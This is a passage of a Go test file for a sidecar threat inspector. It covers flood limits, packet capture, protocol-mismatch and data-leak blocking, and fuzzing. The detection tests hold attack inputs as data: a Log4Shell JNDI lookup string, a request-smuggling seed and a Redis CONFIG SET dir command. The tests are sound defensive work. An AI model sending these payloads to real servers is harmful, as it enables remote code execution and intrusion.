	if err != nil {
		t.Fatal(err)
	}
	th.Apply(index().Snapshot(), view.Load().pol.Set())
	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
	if err != nil {
		t.Fatal(err)
	}
	insp := ThreatInspector(eng, view, index, th)
	src := netip.MustParseAddrPort("10.0.0.3:40000")
	open := func() error {
		o := insp(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true, SourceAddr: src,
			Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 8080})
		defer o.Close()
		return o.FromClient([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n"))
	}
	for i := range 2 {
		if err := open(); err != nil {
			t.Fatalf("connection %d refused: %v", i, err)
		}
	}
	if err := open(); err == nil || !strings.Contains(err.Error(), "threat connection-flood") {
		t.Fatalf("connection over the burst: %v", err)
	}
	if ev := rep.next(t, "connection-flood"); ev.GetAction() != "block" || ev.GetSourceWorkload() != "shop/web" {
		t.Fatalf("event %v", ev)
	}
	if err := open(); err == nil { // still over the rate, no second event (cooldown), still refused
		t.Fatal("flooding source admitted")
	}
	clk.Advance(time.Minute)
	if err := open(); err != nil {
		t.Fatalf("after the flood: %v", err)
	}
	if n := len(rep.events()); n != 1 {
		t.Fatalf("%d flood events, want 1", n)
	}
}

func TestThreatOnDemandCapture(t *testing.T) {
	mgr, err := mgcap.New(mgcap.Config{Dir: t.TempDir(), Clock: clockwork.NewRealClock(), Log: quietLog()})
	if err != nil {
		t.Fatal(err)
	}
	ups := &fakeUploader{ch: make(chan *xdsv1.UploadCaptureRequest, 2)}
	th := newTestThreats(t, nil, mgr, ups, nil)
	insp := CaptureInspector(mgr, "shop/redis", th.newConnID, nil, nil)
	o := insp(context.Background(), StreamInfo{Direction: Outbound, SourceAddr: netip.MustParseAddrPort("10.0.0.2:5555"), Dest: netip.MustParseAddrPort("10.0.0.3:80")})
	defer o.Close()
	th.Capture("req-1", 100*time.Millisecond)
	var up *xdsv1.UploadCaptureRequest
	select {
	case up = <-ups.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("on-demand capture not uploaded")
	}
	if up.GetRequestId() != "req-1" || up.GetError() != "" || !mgcap.ValidID(up.GetCaptureId()) || up.GetConnections() != 1 || up.GetReason() != "on-demand" {
		t.Fatalf("upload %v", up)
	}
	pcapPayload(t, up.GetPcap()) // a readable pcap

	off := newTestThreats(t, nil, nil, ups, nil)
	off.Capture("req-2", time.Second)
	select {
	case up = <-ups.ch:
	case <-time.After(10 * time.Second):
		t.Fatal("failure not uploaded")
	}
	if up.GetRequestId() != "req-2" || !strings.Contains(up.GetError(), "--capture-dir") || len(up.GetPcap()) != 0 {
		t.Fatalf("upload %v", up)
	}
}

func TestThreatProtocolMismatch(t *testing.T) {
	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", "", 6379), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	o := fromWeb(insp, 6379)
	defer o.Close()
	err := o.FromClient([]byte("GET / HTTP/1.1\r\nHost: cache\r\n\r\n"))
	var r Replier
	if !errors.As(err, &r) || !strings.Contains(string(r.Reply()), "403 Forbidden") || !strings.Contains(string(r.Reply()), "threat protocol-mismatch (tcp/6379: http on tcp/6379)") {
		t.Fatalf("HTTP on the Redis port: %v", err)
	}
	if ev := rep.next(t, "protocol-mismatch"); ev.GetSeverity() != "medium" || ev.GetAction() != "block" || ev.GetCategory() != "protocol" {
		t.Fatalf("event %v", ev)
	}
}

// FuzzThreatInspector: hostile client and server bytes never panic the inbound inspection
// (DPI, policy, framer, detectors, DLP).
func FuzzThreatInspector(f *testing.F) {
	f.Add([]byte("POST /a?x=1 HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"), []byte("HTTP/1.1 200 OK\r\n\r\n4111 1111 1111 1111"), 5)
	f.Add([]byte("*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n"), []byte("+OK\r\n"), 2)
	view, index := enforceViewOf(f, fmt.Sprintf(threatPolicy, "protect", ", sensors: {dlp: {patterns: [credit-card]}}", 8080))
	th, err := NewThreats(ThreatsConfig{Workload: "shop/redis", Clock: clockwork.NewRealClock(), Log: quietLog(), Reporter: newFakeReporter()})
	if err != nil {
		f.Fatal(err)
	}
	th.Apply(index().Snapshot(), view.Load().pol.Set())
	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
	if err != nil {
		f.Fatal(err)
	}
	insp := ThreatInspector(eng, view, index, th)
	f.Fuzz(func(t *testing.T, cli, srv []byte, step int) {
		if step <= 0 || step > len(cli)+1 {
			step = len(cli) + 1
		}
		o := insp(context.Background(), StreamInfo{Direction: Inbound, DestPort: 8080})
		for i := 0; i < len(cli); i += step {
			if o.FromClient(cli[i:min(i+step, len(cli))]) != nil {
				break
			}
		}
		_ = o.FromServer(srv)
		o.Close()
		o.(Annotator).Annotate(&ConnReport{})
	})
}

func TestThreatDLPInResponses(t *testing.T) {
	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", ", sensors: {dlp: {patterns: [credit-card, aws-access-key], action: block}}", 8080),
		xdsv1.PolicyMode_POLICY_MODE_MONITOR)
	o := fromWeb(insp, 8080)
	defer o.Close()
	if err := o.FromClient([]byte("GET /me HTTP/1.1\r\nHost: api\r\n\r\n")); err != nil {
		t.Fatalf("request refused: %v", err)
	}
	if err := o.FromServer([]byte("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n")); err != nil {
		t.Fatalf("response head refused: %v", err)
	}
	// The sensor blocks (its action overrides monitor mode): the leaking response is cut.
	if err := o.FromServer([]byte(`{"card":"5500 0000 0000 0004","x":1}    `)); err == nil || !strings.Contains(err.Error(), "threat dlp") {
		t.Fatalf("leaking response: %v", err)
	}
	if ev := rep.next(t, "dlp"); ev.GetAction() != "block" || !strings.Contains(ev.GetReason(), "response-body") || ev.GetMode() != "monitor" {
		t.Fatalf("event %v", ev)
	}
}

// TestThreatHeadJudgedBeforeBody: an attack in the headers of a request whose body is slow
// (or never comes) is refused on the chunk carrying the head, and reported once; a transfer
// coding the framer cannot follow ("xchunked") does not hide the head either.
func TestThreatHeadJudgedBeforeBody(t *testing.T) {
	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", "", 8080), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
	for name, head := range map[string]string{
		"slow body": "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nContent-Length: 12\r\n\r\nuser=",
		"xchunked":  "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nTransfer-Encoding: xchunked\r\n\r\n",
	} {
		o := fromWeb(insp, 8080)
		err := o.FromClient([]byte(head))
		var r Replier
		if !errors.As(err, &r) || !strings.Contains(string(r.Reply()), "403 Forbidden") {
			t.Fatalf("%s: head with a JNDI lookup forwarded (%v)", name, err)
		}
		if ev := rep.next(t, "log4shell"); ev.GetAction() != "block" {
			t.Fatalf("%s: event %v", name, ev)
		}
		o.Close()
	}
}

// threatInspectorFor is the ThreatInspector of a sidecar in mode under pol, with the reporter
// its threat events go to.
func threatInspectorFor(t *testing.T, pol string, mode xdsv1.PolicyMode) (Inspector, *fakeReporter) {
	t.Helper()
	view, index := enforceViewOf(t, pol)
	index().Snapshot().GetSelf().Mode = mode
	rep := newFakeReporter()
	th := newTestThreats(t, rep, nil, nil, nil)
	th.Apply(index().Snapshot(), view.Load().pol.Set())
	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
	if err != nil {
		t.Fatal(err)
	}
	return ThreatInspector(eng, view, index, th), rep
}
